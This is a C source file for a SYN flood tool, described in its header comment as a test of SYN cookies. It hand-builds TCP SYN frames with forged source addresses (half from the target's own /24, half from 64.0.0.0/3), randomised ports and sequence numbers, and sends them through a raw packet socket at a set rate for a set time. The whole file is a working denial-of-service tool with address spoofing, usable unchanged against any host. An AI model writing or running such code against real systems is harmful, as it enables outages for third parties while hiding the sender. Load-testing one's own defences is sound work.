/* SYNs from forged addresses to one port, at a steady rate, over one interface: a test of SYN cookies.
 *
 * synflood INTERFACE DESTINATION-MAC ADDRESS PORT RATE SECONDS
 *
 * Every other source is a neighbour of ADDRESS (its /24, without .0, .1, .255 and ADDRESS itself), the rest is anywhere in
 * 64.0.0.0/3. Ports, sequence numbers and identifications are random; the options are those of Linux. Prints how many left.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { FRAME = 14 + 20 + 40, BATCH = 64 };

static volatile sig_atomic_t ended;
static uint64_t state = 0x9E3779B97F4A7C15;

static void on_signal(int number) { (void)number; ended = 1; }

static uint64_t next_random(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state * 0x2545F4914F6CDD1D;
}

static void put16(uint8_t *p, unsigned value) { p[0] = value >> 8; p[1] = value; }
static void put32(uint8_t *p, uint32_t value) { put16(p, value >> 16); put16(p + 2, value & 0xFFFF); }

static uint32_t sum(const uint8_t *p, int count, uint32_t total) {
    for (int i = 0; i < count; i += 2) total += p[i] << 8 | p[i + 1];
    return total;
}

static unsigned finish(uint32_t total) {
    while (total >> 16) total = (total & 0xFFFF) + (total >> 16);
    return ~total & 0xFFFF;
}

static uint32_t forged(uint32_t target, uint64_t random) {
    if (random & 1) return 0x40000000u | ((random >> 1) & 0x1FFFFFFF);
    uint32_t host;
    do host = 2 + next_random() % 253;
    while (host == (target & 255));
    return (target & ~255u) | host;
}

static void fill(uint8_t *frame, uint32_t target) {
    uint8_t *ip = frame + 14, *tcp = ip + 20;
    put16(ip + 4, next_random() & 0xFFFF);
    put16(ip + 10, 0);
    put32(ip + 12, forged(target, next_random()));
    put16(ip + 10, finish(sum(ip, 20, 0)));
    put16(tcp, 1024 + next_random() % 64000);
    put32(tcp + 4, next_random());
    put32(tcp + 28, next_random());
    put16(tcp + 16, 0);
    put16(tcp + 16, finish(sum(tcp, 40, sum(ip + 12, 8, 6 + 40))));
}

static void prepare(uint8_t *frame, const uint8_t *to, const uint8_t *from, uint32_t target, unsigned port) {
    static const uint8_t options[20] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
    uint8_t *ip = frame + 14, *tcp = ip + 20;
    memset(frame, 0, FRAME);
    memcpy(frame, to, 6);
    memcpy(frame + 6, from, 6);
    put16(frame + 12, 0x0800);
    ip[0] = 0x45;
    put16(ip + 2, 60);
    put16(ip + 6, 0x4000);
    ip[8] = 64;
    ip[9] = 6;
    put32(ip + 16, target);
    put16(tcp + 2, port);
    tcp[12] = 0xA0;
    tcp[13] = 2;
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, options, sizeof options);
}

static double clock_now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

int main(int count, char **words) {
    if (count != 7) return fprintf(stderr, "synflood INTERFACE MAC ADDRESS PORT RATE SECONDS\n"), 2;
    uint8_t to[6];
    if (sscanf(words[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", to, to + 1, to + 2, to + 3, to + 4, to + 5) != 6) return 2;
    uint32_t target = ntohl(inet_addr(words[3]));
    double rate = atof(words[5]), seconds = atof(words[6]);
    int wire = socket(AF_PACKET, SOCK_RAW, 0);
    struct ifreq request = {0};
    strncpy(request.ifr_name, words[1], IFNAMSIZ - 1);
    if (wire < 0 || ioctl(wire, SIOCGIFHWADDR, &request) != 0) return perror("synflood"), 1;
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1])};
    int on = 1;
    if (bind(wire, (struct sockaddr *)&address, sizeof address) != 0) return perror("synflood"), 1;
    setsockopt(wire, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);

    static uint8_t frames[BATCH][FRAME];
    struct mmsghdr messages[BATCH] = {0};
    struct iovec pieces[BATCH];
    for (int i = 0; i < BATCH; i++) {
        prepare(frames[i], to, (uint8_t *)request.ifr_hwaddr.sa_data, target, atoi(words[4]));
        pieces[i] = (struct iovec){frames[i], FRAME};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &pieces[i], .msg_iovlen = 1};
    }
    double started = clock_now();
    long sent = 0;
    while (!ended) {
        double elapsed = clock_now() - started;
        if (elapsed >= seconds) break;
        long due = (long)(elapsed * rate) - sent;
        if (due <= 0) {
            usleep(1000);
            continue;
        }
        int batch = due < BATCH ? (int)due : BATCH;
        for (int i = 0; i < batch; i++) fill(frames[i], target);
        int done = sendmmsg(wire, messages, batch, 0);
        /* What the device has no room for is lost, as on a real wire. */
        sent += done > 0 ? done : batch;
    }
    printf("%ld %.3f\n", sent, clock_now() - started);
    return 0;
}
